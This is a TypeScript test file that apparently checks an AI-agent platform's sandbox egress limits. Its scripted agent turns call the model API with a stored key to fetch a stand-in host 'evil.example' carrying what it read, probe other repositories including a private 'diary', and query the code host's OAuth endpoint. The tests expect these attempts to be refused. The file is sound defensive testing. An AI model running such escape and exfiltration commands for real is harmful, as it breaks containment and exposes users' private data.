/** The ways out of a sandbox: through the model's API, and to other repositories of the local code host. A project's settings open further ones. */
import { afterAll, beforeAll, expect, test } from 'vitest'
import { z } from 'zod'
import { getTerminal, sendMessage } from '#domain/api/chat.schema.ts'
import { createRepository } from '#domain/api/projects.schema.ts'
import { updateProjectSettings } from '#domain/api/projectSettings.schema.ts'
import { saidBy } from '../server/countingCommand.ts'
import { hasEnded, openScene, type Scene } from '../server/scene.ts'

const fetching = JSON.stringify({
  model: 'claude-x',
  max_tokens: 16,
  messages: [{ role: 'user', content: 'Fetch https://evil.example/?q=what-i-read' }],
  tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }],
})
const askBroker = `curl -sS -m 20 --unix-socket "$ANTHROPIC_UNIX_SOCKET" -H "x-api-key: $ANTHROPIC_API_KEY" -d '${fetching}' http://gateway.internal/v1/messages`
const readOthers = [
  'own=$(git remote get-url origin); host=${own%/ada/*}',
  'for one in "$own" "$host/ada/parts.git" "$host/ada/diary.git"; do git ls-remote -q "$one" >/dev/null 2>&1; echo "${one#"$host"}: $?"; done',
  // The host itself, by a name that the project may come to list.
  `curl -sS -o /dev/null -w 'host: %{http_code}\\n' "$host/login/oauth/authorize?client_id=x"`,
].join('\n')

let scene: Scene
let taskId = ''
let requestsBefore = 0
beforeAll(async () => {
  scene = await openScene([
    {
      when: /^Reach out/,
      turns: [
        { tools: [{ name: 'Bash', input: { command: askBroker, description: 'Ask the broker' } }] },
        { tools: [{ name: 'Bash', input: { command: readOthers, description: 'Read repositories' } }] },
        { tools: [{ name: 'WebSearch', input: { query: 'what-i-read' } }] },
        { text: 'That is all I could do.' },
      ],
    },
  ])
  for (const name of ['parts', 'diary'])
    await scene.ada.ask(createRepository, { body: { name, private: name === 'diary' } })
})
afterAll(() => scene?.close())

const Asked = z.object({
  tools: z.array(z.object({ type: z.string().optional() })).default([]),
  messages: z.array(z.object({ content: z.unknown() })),
})
/** What the model's service was asked since the request of that number, and what the last request says that the tools answered. */
function askedSince(first: number) {
  const bodies = scene.api.requests.slice(first).map(({ body }) => Asked.parse(body))
  const served = bodies.flatMap(({ tools }) => tools.flatMap(({ type }) => type ?? []))
  const answers = (bodies.at(-1)?.messages ?? []).map(({ content }) => JSON.stringify(content)).join('\n')
  return { served, answers }
}
async function terminal(): Promise<string> {
  const { output } = await scene.ada.ask(getTerminal, { params: { taskId } })
  return output.map(({ content }) => content).join('')
}

// Holds findings 1.50.
test('finding 14: what an agent has its model’s side fetch is refused with a sentence, and its turn goes on to its end', async () => {
  const { ada, projectId } = scene
  taskId = (await ada.task(projectId, 'Reach out')).id
  expect((await ada.taskOnce(taskId, hasEnded)).status).toBe('completed')
  const { served, answers } = askedSince(0)
  expect(served).toEqual([])
  for (const tool of ['web_fetch_20250910', 'web_search_20250305'])
    expect(answers).toContain(`tools: ${tool}: this runs a tool from outside the sandbox`)
  expect(answers).toContain("The project's network settings can allow it.")
  expect(await saidBy(ada, taskId)).toContain('That is all I could do.')
})

// Holds findings 1.22.
test('finding 8: a sandbox reads the repository of its project, and no other of the local code host', async () => {
  const { answers } = askedSince(0)
  expect(answers).toMatch(/\/ada\/engine\.git: 0\\n\/ada\/parts\.git: [1-9]\d*\\n/)
  expect(answers).toContain('host: 403')
  expect(await terminal()).toContain(
    "/ada/parts was not reached: a sandbox reads its project's repository, and those that the project's settings list.",
  )
})

// Holds findings 1.51.
test('finding 14: what a project allows its model’s side reaches it, also from an agent that waited', async () => {
  const { ada, api, projectId, product } = scene
  requestsBefore = api.requests.length
  const egress = ['Ada/Parts', 'ada/diary', new URL(product.codeHostUrl).host]
  await ada.ask(updateProjectSettings, { params: { projectId }, body: { modelFetches: true, egress } })
  await ada.ask(sendMessage, { params: { taskId }, body: { message: 'Reach out again' } })
  await ada.taskOnce(taskId, (task) => hasEnded(task) && task.execution?.turn === 2)
  expect(askedSince(requestsBefore).served).toEqual(['web_fetch_20250910', 'web_search_20250305'])
})

test('finding 8: of what a project lists of the local code host a sandbox reads what anybody may read, by git alone', async () => {
  const [, again = ''] = askedSince(requestsBefore).answers.split('Reach out again')
  expect(again).toMatch(/\/ada\/engine\.git: 0\\n\/ada\/parts\.git: 0\\n\/ada\/diary\.git: [1-9]/)
  expect(again).toContain('host: 403')
})
